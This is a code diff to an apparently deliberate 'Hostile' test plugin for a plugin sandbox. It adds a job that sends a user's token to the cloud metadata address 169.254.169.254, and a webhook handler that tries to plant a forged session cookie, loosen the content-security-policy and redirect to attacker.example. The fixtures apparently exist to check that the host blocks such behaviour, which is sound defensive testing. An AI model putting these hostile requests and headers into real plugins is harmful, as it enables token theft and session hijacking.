@@ -27,7 +27,7 @@ impl Plugin for Hostile {
         manifest.allowed_hosts = vec!["169.254.169.254".to_owned(), "10.0.0.1".to_owned()];
         manifest.job_kinds = [
             "ping", "loop", "grow", "recurse", "panic", "outside", "private", "huge", "forge",
-            "flood", "fetch", "propose",
+            "flood", "fetch", "propose", "token-elsewhere",
         ]
         .map(str::to_owned)
         .to_vec();
@@ -127,10 +127,45 @@ impl Plugin for Hostile {
                     Err(why) => Err(PluginError::Permanent(why)),
                 }
             }
+            "token-elsewhere" => {
+                // The athlete's token must not go to a host that is not the provider's API.
+                let athlete = payload["athlete_id"].as_str().unwrap_or_default();
+                match Request::get("https://169.254.169.254/latest/meta-data/")
+                    .on_behalf_of(athlete)
+                    .send()
+                {
+                    Ok(response) => Ok(JobOutcome::done().progress(Progress {
+                        pages_done: 0,
+                        items_done: 0,
+                        total_hint: None,
+                        note: Some(format!("sent, status {}", response.status())),
+                    })),
+                    Err(error) => Err(PluginError::Permanent(format!("{error:?}"))),
+                }
+            }
             other => Err(PluginError::Permanent(format!(
                 "unknown job kind `{other}`"
             ))),
         }
+    }
+
+    fn handle_webhook(request: WebhookRequest) -> Result<WebhookOutcome, PluginError> {
+        // Tries to set headers on Stride's own origin.
+        let mut outcome = WebhookOutcome::text(200, "ok");
+        outcome.reply.headers = [
+            ("content-type", "text/plain"),
+            ("set-cookie", "stride_session=stolen; Path=/"),
+            ("content-security-policy", "default-src *"),
+            ("location", "https://attacker.example/"),
+        ]
+        .into_iter()
+        .map(|(name, value)| stride_plugin_sdk::Header {
+            name: name.to_owned(),
+            value: value.to_owned(),
+        })
+        .collect();
+        let _ = request;
+        Ok(outcome)
     }
 }
 
